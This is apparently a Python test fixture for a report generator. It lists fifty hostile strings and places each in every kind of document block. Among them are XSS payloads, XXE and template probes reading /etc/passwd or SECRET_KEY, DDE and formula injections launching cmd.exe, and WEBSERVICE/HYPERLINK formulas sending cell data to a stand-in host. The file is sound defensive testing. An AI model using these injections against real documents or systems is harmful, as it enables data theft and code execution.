"""Fifty texts that try to be something else than text: markup, formulas, fields, files, addresses, and what breaks writers."""

from __future__ import annotations

from dataclasses import replace

from reports.document import Annex, Block, Cell, Chart, Column, FigureRun, Fixed, ReportDocument, Series, Table, Text
from tests.reports.sample_document import sample_document

AT = "http://127.0.0.1:9"

HOSTILE = (
    # markup and styles
    "<script>alert(1)</script>",
    f'<img src="{AT}/a.png" onerror="alert(1)">',
    f'<link rel="stylesheet" href="{AT}/a.css">',
    f'<style>@import url("{AT}/a.css");*{{background:url({AT}/b)}}</style>',
    f'<svg xmlns="http://www.w3.org/2000/svg"><image href="{AT}/c.png"/></svg>',
    '</svg><iframe src="file:///etc/passwd"></iframe>',
    '<link rel="attachment" href="file:///etc/passwd">',
    '<table><tr><td colspan="100000000" rowspan="99999">',
    "<div style='display:flex'>" * 12,
    "</p></main></body></html>",
    "<!doctype html><base href=//127.0.0.1:9>",
    "<!-- <b> --><b>&amp;&lt;&#60;&nbsp;",
    '" onload="alert(1)" x="',
    "' style='position:fixed;inset:0",
    "*/}body{display:none}/*",
    "url(javascript:alert(1))",
    # XML and OOXML
    '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]>&x;',
    "]]><w:p><w:r><w:t>x</w:t></w:r></w:p><![CDATA[",
    '</w:t></w:r><w:r><w:fldChar w:fldCharType="begin"/></w:r>',
    '<w:hyperlink r:id="rId1"/><w:altChunk r:id="rId2"/>',
    '{ INCLUDEPICTURE "http://127.0.0.1:9/x" \\d }',
    'INCLUDETEXT "C:\\\\boot.ini" \\* MERGEFORMAT',
    "DDEAUTO c:\\windows\\system32\\cmd.exe",
    # formulas
    "=1+1",
    '=HYPERLINK("http://127.0.0.1:9/?"&A1,"点这里")',
    "=cmd|' /C calc'!A0",
    "+SUM(1,2)",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(A1:A9)",
    '=WEBSERVICE("http://127.0.0.1:9/"&B2)',
    "=IMPORTXML(CONCAT(),A1)",
    "％=1＋1",
    # templates
    "{{ settings.SECRET_KEY }}{% include '/etc/passwd' %}",
    "${7*7}#{7*7}<%= 7*7 %>",
    "%(name)s %s {0.__class__}",
    "【中心组专题学习|目前|次】〖2025〗",
    # controls, directions, unseen and unpaired marks
    "甲\x00乙\x07丙\x1b[31m丁",
    "甲\u202e乙丙\u2066丁",
    "甲\u200b乙\ufeff丙\u00ad丁",
    "甲\ud800乙\udfff丙",
    "甲\ufffe乙\uffff丙",
    "第一行\r\n第二行\u2028第三行\t第四行",
    "e" + "\u0301" * 60,
    "𠮷𬭚㛃喆👍🏽🇨🇳",
    # numbers that are none, lengths
    "1e999999",
    "NaN",
    "-０１２３４５６７８９",
    "长" * 3000,
    "x" * 2000,
    "../../../../etc/passwd\\..\\con.xlsx",
)


def hostile_blocks(texts: tuple[str, ...] = HOSTILE) -> tuple[Block, ...]:
    """Return every text as every kind of block and of run."""
    return tuple(block for place, text in enumerate(texts) for block in _blocks(place, text))


def _blocks(place: int, text: str):
    figure = FigureRun(text, text, text, text, text, "ab" * 32, ({"period": text, "value": text, "approved_by": text},), text)
    yield Block(f"h{place}", "heading", 1 + place % 2, "一、", "", (Text(text),))
    yield Block(f"p{place}", "paragraph", runs=(Text(text), Fixed(text), figure))
    yield Block(f"i{place}", "item", 0, "1.", text, (Text(text),))
    yield Block(f"n{place}", "plan", 0, "一是", text, (figure,))
    yield Block(f"l{place}", "list", 0, "（1）", "", (Fixed(text),))
    rows = ((Cell(text), Cell("")), (Cell(text), Cell(text, numeric=True, figure=figure)))
    table = Table(text[:300], (Column(text[:300]), Column("数")), rows, text[:300], text[:300])
    yield Block(f"t{place}", "table", number="表1", table=table)
    series = (Series(text, (text, "3")), Series("乙", ("1", None)))
    kind = ("bar", "line", "pie")[place % 3]
    yield Block(f"c{place}", "chart", number="图1", chart=Chart(kind, text[:300], text[:40], (text, "乙"), series, text[:300]))


def hostile_document() -> ReportDocument:
    """Return a draft made of the texts alone, its frame and an annex included."""
    cells = tuple((Cell(text), Cell(text, numeric=True)) for text in HOSTILE)
    table = Table(HOSTILE[23], (Column(HOSTILE[24]), Column(HOSTILE[0])), cells, HOSTILE[25])
    return replace(
        sample_document(), title_lines=(HOSTILE[0], HOSTILE[36]), addressee=HOSTILE[1], blocks=hostile_blocks(),
        signature=HOSTILE[4], issue_date=HOSTILE[26], unit_name=HOSTILE[39], status_mark=HOSTILE[2],
        annexes=(Annex(1, HOSTILE[3], (table,)), Annex(2, HOSTILE[23], (table,), landscape=False)),
    )  # fmt: skip
